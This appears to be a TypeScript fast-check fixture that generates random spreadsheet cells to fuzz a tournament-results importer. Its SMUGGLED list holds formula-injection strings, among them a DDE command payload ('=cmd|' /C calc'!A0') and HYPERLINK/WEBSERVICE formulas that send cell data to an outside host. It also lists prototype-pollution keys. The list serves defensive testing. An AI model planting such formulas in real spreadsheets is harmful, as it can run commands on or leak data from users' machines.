// Cells that a hostile or careless person may enter.
import { KINDS, type Kind } from "../../src/tournaments";
import type { CellValue } from "../../src/sheet";
import type { Column } from "../../src/tournaments/table/headers/columns";
import { fc } from "../random";

/** A cell with everything that a sheet records about it. */
export interface Cell {
  readonly value: CellValue;
  readonly formula: string | null;
  readonly format: string | null;
}

export const BLANK: Cell = { value: null, formula: null, format: null };

const plain = (value: CellValue): Cell => ({ ...BLANK, value });

// ---------------------------------------------------------------- words

const CARD_WORDS =
  "Bd,Board,Rat'g,Rating,Grade,Adj,Res,Result,Name,Team,Adj total,Game points,Points start,Result,Start,Just.,Styrketal";
const ROW_WORDS =
  "Total,Totals,I alt,Average,Sum,Gennemsnit,Bye,Oversidder,default,absent,udeblevet,w.o.,not played,NM,LM 750,Life Master," +
  "Sectional Master,Draw,Home,Away,1 kyu,3 dan,5k,2d,14d,30k,yes,no,ja,nej,level,handicap,h,1-0,½-½,0-1,+-,-,–,x";

/** All words that a kind of tournament looks for: headers, settings, labels. */
export const WORDS: readonly string[] = [
  ...new Set([
    ...Object.values<Kind>(KINDS).flatMap(({ inputs, outputs, settings }) => [
      ...inputs.flatMap((column) => [...Object.values(column.name), ...((column as Column<unknown>).aliases ?? [])]),
      ...outputs.flatMap((column) => Object.values(column.name)),
      ...settings.flatMap(({ key, name, aliases }) => [key, name.da, ...aliases, `${key}: 24`, `${name.da}=imp`]),
    ]),
    ...CARD_WORDS.split(","),
    ...ROW_WORDS.split(","),
    ...["Player", "Handicap", "Index", "Team", "Masterpoints", "1", "2", "3", "%1", "%2", "Last 1", "Last 2", "Boards"],
  ]),
];

/** Texts that would be formulas if somebody typed them. */
export const SMUGGLED = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.org/?"&A1,"x")',
  '=WEBSERVICE("http://example.org/")',
  "+1+1",
  "-1+1",
  "@SUM(A1:A9)",
  "\t=NOW()",
  "\r=NOW()",
  "\n=1+1",
  " =NOW()",
  "'=1+1",
  "＝NOW()",
  '"),WEBSERVICE("http://example.org/',
] as const;

/** Names of members of every JavaScript object. */
export const MEMBERS = ["__proto__", "constructor", "toString", "hasOwnProperty", "valueOf", "prototype"] as const;

const ODD_TEXTS = [
  "a\0b",
  "\0",
  "\ud800",
  "x\udc00y",
  "\u202eevil\u202c",
  "Ann\u200b Holt",
  "\u200fAnn Holt",
  "\ufeffPair",
  "A\u0301ke",
  "ÅÆØ æøå",
  "👩‍👩‍👧‍👦",
  "line\nbreak",
  "tab\there",
  "<b>&amp;</b>",
  "{name}",
  "$&$1",
  "%s%d",
  "]]>",
  "x".repeat(300),
  "ï".repeat(5000),
  "😀".repeat(40),
  "'",
  '"',
  "''!A1",
  "#REF!",
  "TRUE",
  "NaN",
  "null",
  "undefined",
  "-0",
  " ",
  "\u00a0",
  "",
];

const WRITTEN_NUMBERS = [
  ...["12½", "½", "−1½", "1/2", "3 1/2", "¼", "1,5", "1.234,5", "1,234.5", "1.234", "1,234", "2 000", "56,25 %", "51%"],
  ...["-3", "–3", "+4", "1e5", "1e999", "-1e-999", "0x10", "Infinity", "007", "12.", ".5", ",5", "9".repeat(40), "٣"],
  ...["3-1", "1:30", "2026-05-01", "1.5.26", "31/02/2026", "2026-13-45", "0000-00-00", "99.99.9999"],
];

const NAMES = ["Ann Holt", "Bo Field", "Cy Marsh", "Dee Lund", "Eva Kjær", "ann holt", "Ann  Holt", "Ann Hollt"];

// ---------------------------------------------------------------- numbers

const commonNumber = fc.oneof(
  { weight: 4, arbitrary: fc.integer({ min: -4, max: 60 }) },
  { weight: 2, arbitrary: fc.integer({ min: -8, max: 120 }).map((halves) => halves / 2) },
  { weight: 2, arbitrary: fc.integer({ min: 0, max: 10000 }).map((hundredths) => hundredths / 100) },
  { weight: 1, arbitrary: fc.integer({ min: 800, max: 3000 }) },
  { weight: 1, arbitrary: fc.integer({ min: 45000, max: 46500 }) },
);

/** All finite, because the readers of files ensure that. */
const oddNumber = fc.oneof(
  fc.constantFrom(-0, 1e308, -1e308, 5e-324, 2 ** 53, 1e15, 1e21, 1e-7, 0.1 + 0.2, 52.000001),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer(),
);

// ---------------------------------------------------------------- cells

const formulaCell = fc
  .tuple(
    // They refer to cells far away, so that no formula is circular.
    fc.constantFrom(
      "=ZZ99+1",
      "=SUM(ZZ90:ZZ99)",
      "=NOWHERE(1)",
      "=CHESS.ADJUSTMENT(ZY9,ZZ9)",
      "=DBF.DELTA(1,ZY9,ZZ9,4,24)",
    ),
    fc.oneof(commonNumber, fc.constantFrom("text", null, true)),
  )
  .map(([formula, value]): Cell => ({ value, formula, format: null }));

const fault = fc
  .constantFrom("#N/A", "#REF!", "#VALUE!", "#DIV/0!", "#NAME?", "#SPILL!", "#BUSY!", "#NUM!")
  .map((error) => plain({ error }));

const formatted = fc
  .tuple(commonNumber, fc.constantFrom("0%", "0.00%", "dd-mm-yyyy", "@", "0.00", "# ?/?", '[>9]0;"%"'))
  .map(([value, format]): Cell => ({ value: format.includes("%") ? value / 100 : value, formula: null, format }));

/** Anything that a cell can hold. */
export const anyCell: fc.Arbitrary<Cell> = fc.oneof(
  { weight: 6, arbitrary: commonNumber.map(plain) },
  { weight: 3, arbitrary: fc.constantFrom(...WRITTEN_NUMBERS).map(plain) },
  { weight: 3, arbitrary: fc.constantFrom(...NAMES).map(plain) },
  { weight: 3, arbitrary: fc.constantFrom(...WORDS).map(plain) },
  { weight: 2, arbitrary: fc.constantFrom(...SMUGGLED).map(plain) },
  { weight: 2, arbitrary: fc.constantFrom(...MEMBERS).map(plain) },
  { weight: 2, arbitrary: fc.constantFrom(...ODD_TEXTS).map(plain) },
  { weight: 2, arbitrary: fc.constant(BLANK) },
  { weight: 2, arbitrary: oddNumber.map(plain) },
  { weight: 2, arbitrary: fault },
  { weight: 2, arbitrary: formatted },
  { weight: 2, arbitrary: formulaCell },
  { weight: 1, arbitrary: fc.boolean().map(plain) },
  {
    weight: 1,
    arbitrary: fc
      .string({ unit: "binary", maxLength: 12 })
      .map((text) => text.replace(/[\ufffe\uffff]/g, ""))
      .map(plain),
  },
);

/** A word that a kind looks for, perhaps in another spelling. */
export const header: fc.Arbitrary<string> = fc
  .tuple(fc.constantFrom(...WORDS), fc.constantFrom("as it is", "upper", "spaced", "cut", "doubled", "marked"))
  .map(([word, how]) => {
    if (how === "upper") return word.toUpperCase();
    if (how === "spaced") return ` ${word.split("").join(" ")} `;
    if (how === "cut") return word.slice(1);
    if (how === "doubled") return word + word.slice(-1);
    return how === "marked" ? `\u200f${word}\u200b (?)` : word;
  });

/** Common values in the columns of a kind, for random rows under its headers. */
export const LIKELY_CELLS: readonly Cell[] = [
  ...NAMES.slice(0, 5).map(plain),
  ...[0, 1, 0.5, 2, 3, 4, 7, 9.5, 12, 14, 16, 24, 26, 52, 47.5, 60, 0.45, -0.4, 1500, 1740, 84, 150].map(plain),
  ...["½", "1,5", "12½", "56,25 %", "NM", "LM 750", "3k", "2d", "1 dan", "10 kyu", "1-0", "½-½", "yes", "level"].map(
    plain,
  ),
  { ...BLANK, value: 46143, format: "dd-mm-yyyy" },
  { ...BLANK, value: 0.55, format: "0.0%" },
];
